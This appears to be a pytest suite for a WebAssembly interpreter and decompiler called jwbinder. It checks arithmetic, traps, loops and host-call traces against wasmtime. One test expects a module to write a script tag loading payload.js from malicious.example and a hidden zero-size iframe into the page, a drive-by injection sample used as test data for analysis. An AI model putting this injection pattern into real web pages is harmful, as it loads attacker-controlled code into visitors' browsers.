import random

import pytest
import wasmtime

from corpus import IMPORT_FIXTURES, wat2wasm
from jwbinder.oracle import HostTrace, Trap, differential_check, eval_fragment, interp_wasm, string_host
from jwbinder.oracle import numeric as N
from jwbinder.oracle.interp import initial_memory
from jwbinder.ssr import ModuleAbstraction, abstract_function
from jwbinder.wasm import decode_module
from wasmgen import random_args, random_module

WASMTIME_TRAPS = {
    wasmtime.TrapCode.INTEGER_DIVISION_BY_ZERO: "div-by-zero",
    wasmtime.TrapCode.INTEGER_OVERFLOW: "integer-overflow",
    wasmtime.TrapCode.UNREACHABLE: "unreachable",
    wasmtime.TrapCode.MEMORY_OUT_OF_BOUNDS: "oob-memory",
    wasmtime.TrapCode.BAD_CONVERSION_TO_INTEGER: "invalid-conversion",
    wasmtime.TrapCode.TABLE_OUT_OF_BOUNDS: "undefined-element",
    wasmtime.TrapCode.INDIRECT_CALL_TO_NULL: "undefined-element",
    wasmtime.TrapCode.BAD_SIGNATURE: "indirect-call-type-mismatch",
    wasmtime.TrapCode.STACK_OVERFLOW: "call-stack-exhausted",
}

ADD = '(module (func (export "add") (param i32 i32) (result i32) (i32.add (local.get 0) (local.get 1))))'
DIV = '(module (func (export "div") (param i32 i32) (result i32) (i32.div_s (local.get 0) (local.get 1))))'
SUM = """(module (func (export "sum") (param $n i32) (result i32) (local $i i32) (local $acc i32)
  (local.set $i (i32.const 1))
  (block $done (loop $next
    (br_if $done (i32.gt_s (local.get $i) (local.get $n)))
    (local.set $acc (i32.add (local.get $acc) (local.get $i)))
    (local.set $i (i32.add (local.get $i) (i32.const 1)))
    (br $next)))
  (local.get $acc)))"""


def load(text):
    return decode_module(wat2wasm(text))


def test_add_oracle():
    module = load(ADD)
    for a in range(-3, 4):
        for b in range(-3, 4):
            assert interp_wasm(module, 0, [a, b])[0] == [a + b]
    assert interp_wasm(module, 0, [3, 4])[0] == [7]
    assert interp_wasm(module, 0, [2**31 - 1, 1])[0] == [-2**31]


def test_popcnt_by_enumeration():
    module = load('(module (func (param i32) (result i32) (i32.popcnt (local.get 0))))')
    assert interp_wasm(module, 0, [13])[0] == [3]
    for x in range(0, 300, 7):
        assert interp_wasm(module, 0, [x])[0] == [sum(1 for k in range(32) if x >> k & 1)]


def test_loop_sum_closed_form():
    module = load(SUM)
    assert interp_wasm(module, 0, [5])[0] == [15]
    for n in (0, 1, 10, 100):
        assert interp_wasm(module, 0, [n])[0] == [n * (n + 1) // 2]
    assert differential_check(module, 0, [[n] for n in range(12)]).ok


def test_div_by_zero_trap_parity():
    module = load(DIV)
    with pytest.raises(Trap) as trap:
        interp_wasm(module, 0, [7, 0])
    assert trap.value.kind == "div-by-zero"
    with pytest.raises(Trap) as trap:
        eval_fragment(abstract_function(module, 0), [7, 0])
    assert trap.value.kind == "div-by-zero"
    report = differential_check(module, 0, [[x, 0] for x in (-5, 0, 5)] + [[-2**31, -1]])
    assert report.ok and report.checked == 4


def test_add_fragment_matches_on_random_pairs():
    module = load(ADD)
    rng = random.Random(1)
    inputs = [[rng.randint(-2**31, 2**31 - 1), rng.randint(-2**31, 2**31 - 1)] for _ in range(100)]
    report = differential_check(module, 0, inputs)
    assert report.ok and report.checked == 100
    assert eval_fragment(abstract_function(module, 0), [3, 4]) == (7, HostTrace())


def test_host_call_trace():
    module = load('(module (import "env" "w" (func $w (param i32 i32)))'
                  ' (memory 1) (data (i32.const 0) "x")'
                  ' (func (export "go") (call $w (i32.const 0) (i32.const 1))))')
    bindings = {("env", "w"): "document.write"}
    host = {"document.write": string_host}
    _, trace = interp_wasm(module, 1, [], host, bindings)
    assert trace.calls == [("document.write", ["x"])]
    abstraction = ModuleAbstraction(module, bindings)
    state, _ = abstraction.state_statements([1])
    _, ftrace = eval_fragment(abstraction.function(1), [], host, state, initial_memory(module))
    assert ftrace.calls == [("document.write", ["x"])]


def test_unreachable_fragment():
    module = load('(module (func (result i32) unreachable))')
    with pytest.raises(Trap) as trap:
        eval_fragment(abstract_function(module, 0), [])
    assert trap.value.kind == "unreachable"


def test_motivating_host_calls(motivating_module):
    fix = IMPORT_FIXTURES[0]
    idx = motivating_module.exported_func("foo")
    _, trace = interp_wasm(motivating_module, idx, [], fix.host, fix.bindings)
    assert trace.calls == [
        ("document.write", ['<script src="http://malicious.example/payload.js"></script>']),
        ("document.write", ['<iframe src="http://malicious.example/frame.html" width=0 height=0></iframe>']),
    ]
    assert differential_check(motivating_module, idx, [[]], fix.host, fix.bindings).ok


@pytest.mark.parametrize("fix", IMPORT_FIXTURES, ids=lambda f: f.name)
def test_import_fixture_traces(fix):
    module = load(fix.wat)
    idx = module.exported_func(fix.export)
    report = differential_check(module, idx, fix.inputs, fix.host, fix.bindings)
    assert report.ok, report.mismatches[:1] or report.error


def test_float_comparison_rules():
    assert N.values_equal("f64", float("nan"), -float("nan"))
    assert not N.values_equal("f64", 0.0, -0.0)
    assert N.values_equal("i32", 5, 5) and not N.values_equal("i32", 5, 5.0)


def wasmtime_call(wat, args):
    store = wasmtime.Store()
    instance = wasmtime.Instance(store, wasmtime.Module(store.engine, wat2wasm(wat)), [])
    run = instance.exports(store)["run"]
    try:
        return run(store, *args), None
    except wasmtime.Trap as trap:
        return None, WASMTIME_TRAPS.get(trap.trap_code, str(trap.trap_code))


@pytest.mark.parametrize("seed", range(40))
def test_interp_agrees_with_wasmtime(seed):
    wat, params, result = random_module(seed)
    module = load(wat)
    idx = module.exported_func("run")
    rng = random.Random(seed)
    for _ in range(10):
        args = random_args(rng, params)
        expected, expected_trap = wasmtime_call(wat, args)
        try:
            got, _ = interp_wasm(module, idx, args)
            trap = None
        except Trap as exc:
            got, trap = None, exc.kind
        assert trap == expected_trap, (args, trap, expected_trap)
        if trap is None and result is not None:
            want = N.canonical(result, expected)
            assert N.values_equal(result, got[0], want), (args, got, expected)
